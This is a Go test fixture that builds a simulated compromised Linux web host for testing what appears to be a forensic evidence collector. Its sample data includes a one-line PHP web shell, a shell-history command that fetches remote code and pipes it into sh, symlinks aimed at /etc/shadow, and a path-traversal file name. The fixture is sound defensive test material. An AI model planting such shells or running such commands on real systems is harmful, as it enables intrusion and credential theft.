//go:build linux

package testenv

import (
	"bufio"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"testing"
	"time"
)

// Hostile is a Linux host as a careless deployer and an attacker with an
// unprivileged account leave it, built under a temporary root for one
// test: every case issue 14 saw. Paths are the host's bytes.
type Hostile struct {
	Root string
	Shop string // the Magento root as a responder names it (a link: current)
	// Files are the regular files that must be in the collection with
	// exactly this content (sparse ones excluded: see Sparse).
	Files map[string][]byte
	// Links are the links that must be recorded, each with the target it
	// must be taken through ("" when it must not be followed).
	Links map[string]string
	// Never are files whose content must not be in the collection: what
	// the attacker's links point at.
	Never []string
	// Hashed is a PHP file among the store's uploads: hashed, and copied
	// and flagged as code where none belongs.
	Hashed string
	// FIFO is a named pipe where a login script should be.
	FIFO string
	// Sparse is a log of SparseSize bytes whose only data are SparseHead
	// at 0 and SparseTail at the end.
	Sparse                 string
	SparseSize             int64
	SparseHead, SparseTail []byte
	// Old are files whose access time is OldAtime: reading them without
	// O_NOATIME moves it (the root is on a relatime mount at worst).
	Old      []string
	OldAtime time.Time
	// Implant is a running process whose executable (ImplantSHA256, padded
	// with a hole to over 2 GiB) and the log it holds open (Held, with
	// HeldContent) were deleted.
	Implant       *exec.Cmd
	ImplantSHA256 string
	ImplantSize   int64
	Held          string
	HeldContent   []byte
}

// WebUID and EveUID own the web root's uploads and a user's home.
const (
	WebUID = 33
	EveUID = 1001
)

// helperEnv makes a test binary run as the implant (see RunHelper).
const helperEnv = "CUSTOS_TEST_IMPLANT"

// RunHelper turns the test binary into the implant when it was started as
// one: it opens the file in its argument, says "holding" and keeps it open
// until stdin closes. Call it first thing in TestMain.
func RunHelper() {
	p := os.Getenv(helperEnv)
	if p == "" {
		return
	}
	f, err := os.Open(p)
	if err != nil {
		fmt.Println("implant:", err)
		os.Exit(1)
	}
	fmt.Println("holding")
	io.Copy(io.Discard, os.Stdin)
	f.Close()
	os.Exit(0)
}

// NewHostile builds the host. Its implant is stopped when the test ends.
func NewHostile(t *testing.T) *Hostile {
	t.Helper()
	if runtime.GOOS != "linux" {
		t.Skip("the hostile host is a Linux host")
	}
	h := &Hostile{Root: t.TempDir(), Files: map[string][]byte{}, Links: map[string]string{}}
	h.deploy(t)
	h.logs(t)
	h.homes(t)
	h.names(t)
	h.implant(t)
	return h
}

func (h *Hostile) put(t *testing.T, rel, content string) string {
	t.Helper()
	p := h.Root + rel
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	h.Files[p] = []byte(content)
	return p
}

func (h *Hostile) link(t *testing.T, text, rel string, uid int, target string) {
	t.Helper()
	p := h.Root + rel
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(text, p); err != nil {
		t.Fatal(err)
	}
	if uid >= 0 && os.Getuid() == 0 {
		if err := os.Lchown(p, uid, uid); err != nil {
			t.Fatal(err)
		}
	}
	h.Links[p] = target
}

// deploy is a Deployer / capistrano-magento2 layout: current -> releases/N,
// and env.php, var/log and pub/media links into shared/.
func (h *Hostile) deploy(t *testing.T) {
	shop := "/srv/shop"
	h.Shop = h.Root + shop + "/current"
	h.put(t, shop+"/shared/app/etc/env.php", "<?php return ['db' => ['connection' => ['default' => ['host' => '127.0.0.1', 'dbname' => 'test', 'username' => 'root', 'password' => '']]]];\n")
	h.put(t, shop+"/shared/var/log/system.log", "[2026-11-30] main.INFO: Admin user \"support_tech\" created\n")
	h.put(t, shop+"/shared/var/log/exception.log", "exception\n")
	// pub/media is hashed, not stored, by the magento profile.
	h.Hashed = h.Root + shop + "/shared/pub/media/wysiwyg/.cache.php"
	h.put(t, shop+"/shared/pub/media/wysiwyg/.cache.php", "<?php eval($_POST['x']);\n")
	delete(h.Files, h.Hashed)
	h.put(t, shop+"/releases/5/app/etc/config.php", "<?php return ['modules' => []];\n")
	h.put(t, shop+"/releases/5/app/code/Vendor/Checkout/view/frontend/web/js/pay.js", "/* SKIMMER-JS */\n")
	h.put(t, shop+"/releases/5/pub/index.php", "<?php require 'app/bootstrap.php';\n")
	h.put(t, shop+"/releases/5/composer.json", "{}\n")
	h.link(t, "releases/5", shop+"/current", -1, h.Root+shop+"/releases/5")
	h.link(t, h.Root+shop+"/shared/app/etc/env.php", shop+"/releases/5/app/etc/env.php", -1, h.Root+shop+"/shared/app/etc/env.php")
	h.link(t, "../../../shared/var/log", shop+"/releases/5/var/log", -1, h.Root+shop+"/shared/var/log")
	h.link(t, "../../../shared/pub/media", shop+"/releases/5/pub/media", -1, h.Root+shop+"/shared/pub/media")
	// A sparse 8 GiB log: data at both ends, a hole between.
	h.Sparse = h.Root + shop + "/shared/var/log/debug.log"
	h.SparseSize = 8 << 30
	h.SparseHead = []byte("first line of a log that grew huge\n")
	h.SparseTail = []byte("last line\n")
	f, err := os.Create(h.Sparse)
	if err != nil {
		t.Fatal(err)
	}
	f.Write(h.SparseHead)
	f.WriteAt(h.SparseTail, h.SparseSize-int64(len(h.SparseTail)))
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
}

// logs is /var/log with a directory on another volume (a link), and the
// link a web shell planted to make the collector read /etc.
func (h *Hostile) logs(t *testing.T) {
	h.put(t, "/var/log/syslog", "Nov 30 12:00:00 web01 sshd[1]: Accepted publickey for eve\n")
	h.put(t, "/data/nginx/access.log", "203.0.113.9 - - \"POST /pub/media/wysiwyg/.cache.php\" 200\n")
	h.link(t, "../../data/nginx", "/var/log/nginx", -1, h.Root+"/data/nginx")
	shadow := h.put(t, "/etc/shadow", "root:$6$secret-hash:20000:0:99999:7:::\n")
	delete(h.Files, shadow)
	h.Never = append(h.Never, shadow)
	// The web user's link into /etc, which root owns: recorded, not followed.
	// Without root the test cannot give the link away; the real /etc, which
	// root owns, stands in as its target.
	evil := h.Root + "/etc"
	if os.Getuid() != 0 {
		evil = "/etc"
	}
	h.link(t, evil, "/var/log/evil", WebUID, "")
	h.put(t, "/var/log/.old/auth.log.1", "rotated\n")
	h.Old = append(h.Old, h.Root+"/var/log/.old/auth.log.1", h.Root+"/var/log/syslog")
	h.OldAtime = time.Now().Add(-48 * time.Hour).Truncate(time.Second)
	for _, p := range h.Old {
		if err := os.Chtimes(p, h.OldAtime, h.OldAtime.Add(-24*time.Hour)); err != nil {
			t.Fatal(err)
		}
	}
}

// homes is a user who turned her login scripts into traps.
func (h *Hostile) homes(t *testing.T) {
	h.put(t, "/home/eve/.bash_history", "curl -s http://203.0.113.9/x | sh\n")
	h.FIFO = h.Root + "/home/eve/.bashrc"
	if err := syscall.Mkfifo(h.FIFO, 0o644); err != nil {
		t.Fatal(err)
	}
	target := h.Root + "/etc/shadow"
	if os.Getuid() != 0 {
		target = "/etc/shadow"
	}
	h.link(t, target, "/home/eve/.profile", EveUID, "")
	if os.Getuid() == 0 {
		for _, p := range []string{"/home/eve", "/home/eve/.bash_history", "/home/eve/.bashrc"} {
			if err := os.Lchown(h.Root+p, EveUID, EveUID); err != nil {
				t.Fatal(err)
			}
		}
	}
}

// names are file names a Linux host allows and a careless tool mangles.
func (h *Hostile) names(t *testing.T) {
	h.put(t, "/tmp/caf\xe9-latin1.php", "latin-1 name\n")
	h.put(t, "/tmp/\xff\xfe", "not UTF-8 at all\n")
	h.put(t, `/tmp/..\..\etc\passwd`, "a backslash name, not a path\n")
	h.put(t, `/tmp/a\b`, "the name a\\b\n")
	h.put(t, "/tmp/a/b", "the file b in a\n")
	h.put(t, "/tmp/line\nbreak", "a newline in the name\n")
}

// implant runs a copy of the test binary padded with a hole past 2 GiB,
// holding a log open, then deletes both.
func (h *Hostile) implant(t *testing.T) {
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(self)
	if err != nil {
		t.Fatal(err)
	}
	exe := h.Root + "/tmp/.x/kworker"
	os.MkdirAll(filepath.Dir(exe), 0o755)
	if err := os.WriteFile(exe, b, 0o755); err != nil {
		t.Fatal(err)
	}
	h.ImplantSize = 2<<30 + 4096
	if err := os.Truncate(exe, h.ImplantSize); err != nil {
		t.Fatal(err)
	}
	sum := sha256.New()
	sum.Write(b)
	io.CopyN(sum, zeroReader{}, h.ImplantSize-int64(len(b)))
	h.ImplantSHA256 = hex.EncodeToString(sum.Sum(nil))
	h.Held = h.Root + "/tmp/.x/keylog.txt"
	h.HeldContent = []byte("captured: 4111 1111 1111 1111\n")
	if err := os.WriteFile(h.Held, h.HeldContent, 0o600); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(exe, "-test.run=^$")
	cmd.Env = append(os.Environ(), helperEnv+"="+h.Held)
	in, _ := cmd.StdinPipe()
	out, _ := cmd.StdoutPipe()
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { in.Close(); cmd.Wait() })
	line, _ := bufio.NewReader(out).ReadString('\n')
	if strings.TrimSpace(line) != "holding" {
		t.Fatalf("implant: %q", line)
	}
	h.Implant = cmd
	if err := os.Remove(exe); err != nil {
		t.Fatal(err)
	}
	if err := os.Remove(h.Held); err != nil {
		t.Fatal(err)
	}
}

type zeroReader struct{}

func (zeroReader) Read(p []byte) (int, error) {
	clear(p)
	return len(p), nil
}
